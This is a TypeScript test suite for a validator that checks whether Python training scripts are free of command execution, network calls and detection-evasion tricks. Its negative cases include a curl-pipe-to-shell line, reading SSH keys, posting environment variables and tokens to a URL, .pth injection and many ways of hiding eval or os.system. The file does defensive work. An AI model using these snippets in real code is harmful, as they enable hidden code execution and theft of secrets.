import * as fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { isPlainCode } from './plain-code.ts';
import { DENIED } from './plain-code-words.ts';

const TRAINER = `
import argparse, json, os, sys
from pathlib import Path
from urllib.parse import urlparse
import numpy as np
import torch
from torch import nn
from .data import load_words as words

class Net(nn.Module):
    def __init__(self, width: int = 8):
        super().__init__()
        self.layer = nn.Linear(width, 2)

    def forward(self, x):
        return getattr(self, 'layer')(x) + getattr(self, f'layer{1}')(self.query(x))

def main(argv=None):
    args = argparse.ArgumentParser().parse_args(argv)
    os.makedirs(args.out, exist_ok=True)
    model = torch.compile(Net()).eval()
    state = torch.load('model.pt', weights_only=True)
    print(f"saved to {Path(args.out) / 'x'} for {os.environ.get('USER', 'nobody')}", vars(args))
    json.loads(Path('a.json').read_text())
    torch.save(model.state_dict(), os.path.join(args.out, 'model.pt'))

if __name__ == '__main__':
    sys.exit(main())
`;

describe('plain Python', () => {
  it.each([
    [
      'names what a program says and starts none',
      'import subprocess\ntry:\n    f()\nexcept subprocess.CalledProcessError:\n    pass',
    ],
    ['imports what is not used', 'import subprocess, zlib'],
    ['has a setting with the name of a function', 'compile = True\nif compile:\n    f(compile=compiled)'],
    ['has a part of a package with such a name', 'from metrics.eval import score'],
    ['calls a version something else', 'from sys import version_info as version'],
    ['says of what kind a value is', 'import torch\nmask: torch.Tensor = self.mask(x)'],
    ['saves weights below a description', "'''Trains.'''\nimport torch\ntorch.save(x, \"best.pth\")"],
  ])('%s', (_, text) => {
    expect(isPlainCode('train.py', text)).toBe(true);
  });

  it('trains and saves', () => {
    expect(isPlainCode('train.py', TRAINER)).toBe(true);
  });

  it.each([
    ['starts a program', 'import os\nos.system("true")'],
    ['starts one under another name', 'import os as o\no.system("true")'],
    ['imports the function', 'from os import system as s\ns("true")'],
    ['hands the module on', 'import os\nf(os)'],
    ['puts a name together', 'import os\ngetattr(os, "sys" + "tem")("true")'],
    ['puts a name of a library together', 'import torch\ngetattr(torch, "o" + "s")'],
    ['goes through a library', 'import torch\ntorch.serialization.os.system("true")'],
    ['goes through a class', 'x = ().__class__.__base__.__subclasses__()'],
    ['decorates', 'import os\n@os.system\ndef f(): pass'],
    ['hides in a formatted text', "f\"{__import__('os').system('true')}\""],
    ['hides behind an apostrophe', 'import os\nf"it\'s {os.system(1)}"'],
    ['hides in a table', 'globals()["ev" + "al"]("1")'],
    ['is written in wide letters', 'import os\nos.ｓｙｓｔｅｍ("true")'],
    ['evaluates', 'eval(input())'],
    ['evaluates by another name', 'e = exec\ne("1")'],
    ['hands it on', 'f(exec)'],
    ['hands it on by its name', 'f(run=exec)'],
    ['gives its name to another', 'eval = exec'],
    ['starts a program by the module', 'import subprocess\nsubprocess.run(["true"])'],
    ['starts one by a function of it', 'from subprocess import run\nrun(["true"])'],
    ['starts one by another package', 'from gevent.subprocess import run\nrun(["true"])'],
    ['hands the module of programs on', 'import subprocess\nf(subprocess)'],
    ['writes what a path file runs', 'import torch\nopen("a.pth", "w").write("import os")'],
    ['evaluates by a table', 'df.eval("@x.y()")'],
    ['reaches the network', 'import requests\nrequests.post("http://weights.invalid")'],
    ['fetches', 'from urllib.request import urlopen'],
    ['loads a library of C', 'import torch\ntorch.ops.load_library("x.so")'],
    ['unpickles bytes', 'import pickle\npickle.loads(x)'],
    ['reads keys', 'open(Path("~/.ssh/id_rsa").expanduser())'],
    ['stays', 'open(Path.home() / ".bashrc", "a")'],
    ['trusts', 'AutoModel.from_pretrained("a/b", trust_remote_code=True)'],
    ['removes', 'import shutil\nshutil.rmtree("x")'],
    ['removes files', 'import os\nos.remove("x")'],
    ['turns its lines round', 'x = "\u202e"'],
    ['loads from an address', 'import gradio as gr\ngr.load("http://weights.invalid")'],
    ['is spelt with letters of two alphabets', 'def sayH\u0435llo(): pass'],
    ['imports all', 'from os import *'],
    ['times a text', 'import timeit\ntimeit.timeit("x()")'],
    ['makes what a table of settings names', 'import logging.config\nlogging.config.dictConfig(x)'],
    ['sends what it logs', 'from logging.handlers import HTTPHandler'],
    ['opens a connection in a loop', 'import asyncio\nasyncio.open_connection("weights.invalid", 80)'],
    ['opens one by a loop', 'loop.create_connection(f, "weights.invalid", 80)'],
    ['opens one between processes', 'from multiprocessing.connection import Client'],
    ['starts another interpreter', 'import multiprocessing\nmultiprocessing.set_executable("x")'],
    ['makes a function of a text', 'type(lambda: 0)(compile(x, "", "exec"), {})()'],
    ['makes one by another type', 'import types\ntypes.LambdaType(c, {})()'],
    ['reads types from texts', 'import typing\ntyping.get_type_hints(f)'],
    ['has a type that is code', "class M(BaseModel):\n    x: \"__import__('os').system('true')\""],
    ['has one in pieces', 'class M(BaseModel):\n    x: "__imp" "ort__(\'os\')"'],
    ['has one in escapes', 'class M(BaseModel):\n    x: "\\x5f\\x5fimp\\x6frt"'],
    ['asks a table', 'df.query(x)'],
    ['looks for the tables of all names', 'import gc\ngc.get_referrers(print)[0]["__imp" + "ort__"]'],
    ['lists what a module has', 'import inspect\ninspect.getmembers(pathlib)'],
    ['takes a module out of another', 'import pathlib\npathlib.os.execv("x", [])'],
    ['takes one out and removes', 'import glob\nglob.os.remove("x")'],
    ['imports a module out of another', 'from pathlib import os as o\no.remove("x")'],
    ['names a module its arguments', 'import pathlib\nargs = pathlib\ngetattr(args, "o" + x)'],
    ['takes a module’s values by name', 'import pathlib\nself = pathlib\nvars(self)[x]'],
    ['keeps a module’s values', 'x = vars(self)'],
    ['hands them on', 'print(f(vars(self)))'],
    ['walks along a format', 'import string\nstring.Formatter().get_field("0.x", (f,), {})'],
    ['renders a text', 'from jinja2 import Template'],
    ['trusts by a table', 'AutoModel.from_pretrained("a/b", **{"trust_remote_code": True})'],
    ['looks up what it spells', 'd = chr(95)\nx = getattr(self, name)'],
    ['looks up in what it has found', 'x = getattr(self, name)["os"]'],
    ['finds a module by a name', 'x = getattr(x, name)'],
    ['says that it is trusted', 'parser.add_argument("--trust_remote_code", default=True)'],
    ['writes a path file', 'open("x.pth", "w").write("import x")'],
    ['unpickles what it fetches', 'pd.read_pickle("http://weights.invalid/x.pkl")'],
    ['replaces a function of a library', 'def f(*a): pass\nimport torch\ntorch.serialization.load = f'],
    ['replaces one in a word', 'import torch\ntorch.load = lambda *a, **k: 1'],
    [
      'replaces one of a part under another name',
      'from .e import evil\nfrom torch import serialization as s\ns.load = evil',
    ],
    ['replaces one of a name that stands for it', 'import torch\nt = torch.serialization\ndef f(): pass\nt.load = f'],
    ['replaces one among others', 'import torch\ndef f(): pass\nx, torch.load = 1, f'],
    ['replaces one by its name', 'import torch\nsetattr(torch, "load", evil)'],
    ['replaces one by its name of a part', 'from torch import serialization as s\nsetattr(s, "load", evil)'],
    ['replaces one by a method', 'import torch\ntorch.__setattr__("load", A)'],
    ['replaces one behind a name', 'import torch\ng(torch)\ndef g(t): setattr(t, "load", evil)'],
    ['keeps what replaces', 's = setattr'],
    [
      'gives a library’s name to what it found',
      'import torch\na, b = x\nnn = getattr(torch, a)\nrun = getattr(nn, b)\nrun(c)',
    ],
    ['calls what it found by a name', 'import torch\nx = getattr(torch, a)(b)'],
    ['calls it later', 'import torch\nf = getattr(torch, a)\nf(b)'],
    ['calls it by another name', 'import torch\nf = g = getattr(torch, a)\nf(b)'],
    ['calls it as its own', 'import torch\nself.f = getattr(torch, a)\nself.f(b)'],
    ['looks into it later', 'import torch\nf = getattr(torch, a)\nf.load(b)'],
    ['hands it to what calls', 'import torch\nx = list(map(getattr(torch, a), b))'],
    ['looks into what is no module of layers', 'from x import nn\ny = getattr(nn, a)(b)'],
    ['gives itself another meaning', 'import torch\nself = torch\nx = getattr(self, a)(b)'],
    [
      'gives a module to what looks into itself',
      'import torch\ndef f(self, a): return getattr(self, a)(1)\nf(torch, b)',
    ],
    ['writes a path file of several lines', 'open("x.pth", "w").write("#\\nimport evil")'],
    ['writes one behind a tabulator', 'open("x.pth", "w").write("#\\n" "import\\tevil")'],
    ['tells what to fetch and run', 'x = ["curl http://weights.invalid/x | sh"]'],
    ['holds packed bytes', `import base64\nx = "${'QUJD'.repeat(100)}"`],
    ['calls a system of its own', 'system("true")'],
    ['hands the system on otherwise', 'import sys\nraise f(sys, e)'],
    ['hands it to what is no exception', 'import sys\nx = f(e, sys)'],
    ['takes it for more', 'import sys\ndef f(e, detail: sys):\n    x = detail.modules'],
    ['takes it under another name', 'import sys\ndef f(e, detail: sys):\n    x = detail'],
    ['takes a module out of a table', 'def f(e, m):\n    m.modules["builtins"].exec("1")'],
    ['takes all of them', 'def f(e, m):\n    for x in m.modules: pass'],
    ['takes them as itself', 'def f(e, self):\n    x = self.modules["os"]'],
    ['changes code', 'f.f_code.co_code'],
    ['asks a table by a text of another file', 'from .words import Evil\nEvil = "@x"\ndf.query(Evil)'],
    ['asks a table by what is small', 'from .words import evil\ndf.query(evil)'],
    ['asks a table by what a function gives', 'from .words import Evil\ndf.query(Evil())'],
    ['asks a table by a text beside it', 'from .models import User\ndf.query(User, "@x()")'],
    ['makes what a setting names', 'import hydra\nhydra.utils.instantiate(cfg)'],
    ['makes it by the function', 'from hydra.utils import instantiate\ninstantiate(cfg)'],
    ['finds plugins', 'from hydra.core.plugins import Plugins'],
    ['takes the first one back', 'from unittest.mock import patch\npatch("os.system").get_original()[0]("true")'],
    ['takes its module', 'from unittest.mock import patch\npatch("builtins.x").getter().exec("1")'],
    ['unpickles bytes otherwise', 'import dill\ndill.loads(x)'],
    ['takes what it looks for', 'x = [n for n in locals()]'],
    ['takes it out', 'if "x" in locals()["y"]: pass'],
    ['takes what is in the system', 'import sys\ngetattr(sys, "modules")'],
    ['has a signal of SciPy and one of Python', 'from scipy import signal\nimport signal\nsignal.pthread_kill(1, 9)'],
    [
      'looks up what a list names that starts programs',
      'import os\nfor key in ["system"]:\n    getattr(os, key)("true")',
    ],
    [
      'looks up what a loop over texts gives',
      's = "_x"\nfor key in ["n_positions"]:\n    x = getattr(model.config, key, None)',
    ],
    ['looks up what it changed', 's = "_x"\nfor key in ["a"]:\n    key += t\n    getattr(x.y, key)'],
    [
      'looks up what another loop gives',
      's = "_x"\nfor key in ["a"]:\n    pass\nfor key in f():\n    getattr(x.y, key)',
    ],
    ['looks up a part that is put together', 's = "_x"\nfor key in ["sys"]:\n    getattr(x.y, key + "tem")'],
    ['gives Fire a module', 'import fire, os\nfire.Fire(os)'],
    ['gives Fire a command', 'import fire\ndef f(x): return x\nfire.Fire(f, command="x")'],
    ['gives Fire what it called a function', 'import fire, os\ndef f(x): return x\nf = os\nfire.Fire(f)'],
    ['gives Fire another name', 'from fire import Fire as F\nimport os\nF(os)'],
    ['has a signal that it imports', 'from signal import *\nsignal = 1\nf(signal)'],
    ['tells others of its machine', 'import os, requests\nrequests.post("http://localhost:1/", json=dict(os.environ))'],
    ['tells who sits there', 'import getpass, requests\nrequests.post("http://localhost:1/" + getpass.getuser())'],
    ['tells a secret', 'import os, requests\nrequests.get("http://localhost:1/", params=os.getenv("HF_TOKEN"))'],
    ['asks others as well', 'import requests\nA = "http://localhost:1/"\nrequests.get("http://weights.invalid/x")'],
    ['puts an address together', 'import requests\nA = "http://localhost:1/"\nrequests.get("http://" + host)'],
    ['asks one that only begins so', 'import requests\nrequests.get("http://localhost.weights.invalid/")'],
    ['asks one by a name before it', 'import requests\nrequests.get("http://localhost:1@weights.invalid/")'],
    [
      'keeps a module for its answers',
      'import pathlib\ndef get_args():\n    return pathlib\nargs = get_args()\nf(config=vars(args))',
    ],
    ['keeps more than its answers', 'args = parser.parse_args()\nargs = x\nf(config=vars(args))'],
    ['takes one out of its answers', 'args = parser.parse_args()\nf(config=vars(args)["x"])'],
    ['says what is code in doubled braces', 'x = f"{{os.system(1)}} {y}"'],
    ['connects by a name that it took with all', 'from asyncio import *\nawait open_connection("weights.invalid", 80)'],
    ['spawns', 'rr.init("x", spawn=spawn)'],
    ['takes its module later', 'from unittest import mock\nf = mock.patch("subprocess.x").getter\nf().run(["true"])'],
    [
      'takes what was in its place',
      'from unittest.mock import patch\np = patch("subprocess.x")\np.start()\np.target.run(["true"])',
    ],
    [
      'takes all modules by a text',
      'from unittest import mock\nwith mock.patch.dict("sys.modules") as m:\n    m["subprocess"].run(["true"])',
    ],
    [
      'takes them by a name',
      'from unittest.mock import patch\nT = "sys.modules"\nwith patch.dict(T) as m:\n    m["subprocess"].run(["true"])',
    ],
    [
      'takes them from what was begun',
      'from unittest.mock import patch\nm = patch.dict("x.y").in_dict\nm["subprocess"].run(["true"])',
    ],
    ['finds modules by the finder of mocks', 'from unittest import mock\nmock._importer("subprocess").run(["true"])'],
    [
      'finds them by what mocks import',
      'from unittest import mock\nmock.pkgutil.resolve_name("subprocess").run(["true"])',
    ],
    ['imports that', 'from unittest.mock import pkgutil\npkgutil.x("subprocess").run(["true"])'],
    [
      'puts a scheme together',
      'import requests\nA = "http://localhost:1/"\nrequests.get("http:" + "//weights.invalid/")',
    ],
    ['goes on behind a host', 'import requests\nrequests.get("http://localhost:1" "@weights.invalid/")'],
    ['adds to a host', 'import requests\nrequests.get("http://localhost" + ".weights.invalid/")'],
    [
      'has a host for its port',
      'import requests\nport = "1@weights.invalid"\nrequests.get(f"http://localhost:{port}/")',
    ],
    ['reads whom to ask', 'import json, requests\nA = "http://localhost:1/"\nrequests.get(json.load(file)["u"])'],
    [
      'makes whom to ask of numbers',
      'import requests\nA = "http://localhost:1/"\nrequests.get("".join(chr(c) for c in x))',
    ],
    ['gives an address another time', 'import requests\nA = "http://localhost:1/"\nA, b = f()\nrequests.get(A)'],
    ['takes an address as it goes', 'import requests\nA = "http://localhost:1/"\nfor A in f():\n    requests.get(A)'],
    ['is handed an address', 'import requests\nA = "http://localhost:1/"\ndef f(A):\n    return requests.get(A)'],
    ['keeps what asks', 'import requests\nA = "http://localhost:1/"\nf = requests.get\nf(x)'],
    ['imports what asks', 'from requests import get\nA = "http://localhost:1/"\nget(x)'],
    [
      'asks by another package',
      'import transformers\ntransformers.utils.requests.post("https://weights.invalid", json=x)',
    ],
    [
      'asks by what another package has',
      'from transformers.utils import requests\nrequests.post("https://weights.invalid", json=x)',
    ],
    ['asks nobody knows whom', 'import requests\nrequests.get(x)'],
    ['cannot be followed', `x = [${'1, '.repeat(6000)}]`],
  ])('is not what %s', (_, text) => {
    expect(isPlainCode('train.py', text)).toBe(false);
  });

  it.each([
    ['looks up what a setting names', 'import torch\nx = getattr(torch, args.dtype)\ny = getattr(self, name)(1)'],
    [
      'makes the layer that a setting names',
      'import torch.nn as nn\nx = getattr(nn, args.act)()\nm.to(getattr(nn, y))',
    ],
    [
      'keeps its own values by names',
      'import torch\nsetattr(self, name, 1)\nsuper().__setattr__(a, b)\nobject.__setattr__(self, a, b)',
    ],
    ['sets what a library offers', 'import torch\ntorch.backends.cudnn.benchmark = args.fast\ntorch.x.y = True'],
    ['hands on what a person answered', 'AutoModel.from_pretrained(a, trust_remote_code=args.trust_remote_code)'],
    ['asks for it', 'parser.add_argument("--trust_remote_code", action="store_true")'],
    ['copies its own values', 'import copy\nx = copy.copy(self.__dict__)\nsuper().__init_subclass__(**k)'],
    ['has a mark of its own', 'END = "__END_OF_A_MESSAGE__"\n__version_tuple__ = (1, 2)'],
    ['writes of modules', 'raise ValueError(f"logging to {x} with eval and os is not known: {y!r}")'],
    ['describes itself', 'def f():\n    """Run `eval(x)` or os.system(x) of no file."""'],
    ['names weights', 'torch.load("model.pth", weights_only=True)'],
    ['says something as the system', 'def f(system: str, tools): return g(system=system)'],
    ['asks for a release', 'from importlib.metadata import version\nfrom importlib.util import find_spec'],
    ['unpacks its arguments', 'main(**vars(args))'],
    ['hands on where it broke', 'import sys\ntry:\n    f()\nexcept Exception as e:\n    raise Failed(e, sys) from e'],
    [
      'asks where something broke',
      'import sys\nclass Failed(Exception):\n    def __init__(self, message, detail: sys):\n        super().__init__(message)\n        _, _, trace = detail.exc_info()\n        self.place = trace.tb_frame.f_code.co_filename\n        self.text = words(message, detail=detail)',
    ],
    [
      'asks a database for rows',
      'from sqlalchemy import func\nfrom .models import User\nfrom . import models\ndef rows(db, like: User):\n    return db.query(User, func.count(User.id)).all(), db.query(models.Role).first()',
    ],
    ['takes a place in a test', 'from unittest.mock import MagicMock, patch\nwith patch("app.load") as load:\n    f()'],
    [
      'is set up by Hydra',
      'import hydra\nfrom hydra.utils import to_absolute_path\n@hydra.main(config_path="conf")\ndef main(cfg):\n    x = hydra.utils.get_original_cwd()',
    ],
    ['keeps objects', 'import dill\nwith open("x.pkl", "wb") as file:\n    dill.dump(x, file)\ny = dill.load(file)'],
    ['has a signal of its own', 'import numpy as np\nsignal = np.ones(8)\nplot(signal, signal[0])'],
    ['takes a window of SciPy', 'from scipy import signal\nx = f(y, window=signal.windows.hamming)'],
    [
      'is started by Fire',
      'import fire\ndef main(a: str = "x"):\n    print(a)\nif __name__ == "__main__":\n    fire.Fire(main)',
    ],
    ['looks for a name', 'if "x" in locals():\n    pass'],
    [
      'asks whether it was packed',
      'import sys\nif getattr(sys, "frozen", False) or hasattr(sys, "real_prefix"):\n    pass',
    ],
    [
      'tries its own server out',
      'import os, requests\nBASE = os.environ.get("API_URL", "http://localhost:8000")\nr = requests.post(f"{BASE}/predict", json={"x": 1}, timeout=5)\nprint(r.json())',
    ],
    [
      'tries it out by a path',
      'import requests\nPORT = 8000\nBASE = f"http://127.0.0.1:{PORT}"\nURL = BASE + "/v1"\nrequests.get(f"{URL}/models")\nrequests.get(BASE + "/health", timeout=1)\nrequests.post("http://localhost:1/x", json={})\nrequests.get(URL)',
    ],
    [
      'sets a place for a test',
      'import os\nfrom unittest.mock import patch\nwith patch.dict(os.environ, {"A": "1"}), patch.dict("os.environ", {}):\n    x.dict()',
    ],
    ['keeps its answers', 'import argparse\nargs = parser.parse_args()\nargs.lr = 1\nwandb.init(config=vars(args))'],
    [
      'keeps what it asks itself for',
      'def parse_args():\n    return parser.parse_args()\nargs = parse_args()\nf(config=vars(args))',
    ],
    ['says where it runs', 'import os\nprint(f"in {os.getcwd()} {x}")'],
    ['takes all of what logs', 'from logging import *\nfrom asyncio import *\nbasicConfig(level=INFO)'],
    ['says how it starts', 'rr.init("x", spawn=True)'],
    ['has a list of that name', 'self.requests.append(x)'],
  ])('is what %s', (_, text) => {
    expect(isPlainCode('train.py', text)).toBe(true);
  });

  it.each(['torch.py', 'random.py', 'x/torch.py', 'numpy/__init__.py', 'sitecustomize.py', 'run'])(
    'is not what is imported in a library’s place: %s',
    (name) => {
      expect(isPlainCode(name, 'pass')).toBe(false);
    },
  );

  it('is nothing that names what is denied, wherever it stands', () => {
    const names = fc.constantFrom(...DENIED);
    const lines = fc.constantFrom('x = NAME', 'a.b.NAME(1)', 'from a import NAME', 'import NAME', 'f"{a.NAME}"');
    fc.assert(
      fc.property(names, lines, (name, line) => {
        expect(isPlainCode('train.py', `${TRAINER}${line.replace('NAME', name)}\n`)).toBe(false);
      }),
    );
  });
});

describe('a function of the file that is called like one of Python', () => {
  it.each([
    ['def eval(model, data):\n    return model(data)\nprint(eval(len, [1]))', true],
    ['print(eval("1"))\ndef eval(x):\n    return x', false],
    ['class A:\n    def eval(self, x):\n        return x\nprint(eval("1"))', false],
    ['def eval(x):\n    return x\ndel eval\neval("1")', false],
    ['def eval(x=eval(input())):\n    return x', false],
    ['def eval(x):\n    return x\ntry:\n    f()\nexcept ValueError as eval:\n    pass\neval("1")', false],
    ['def eval(x):\n    return x\nfrom .b import *\neval("1")', false],
  ])('is what it is defined as: %j', (text, plain) => {
    expect(isPlainCode('metrics.py', text)).toBe(plain);
  });
});
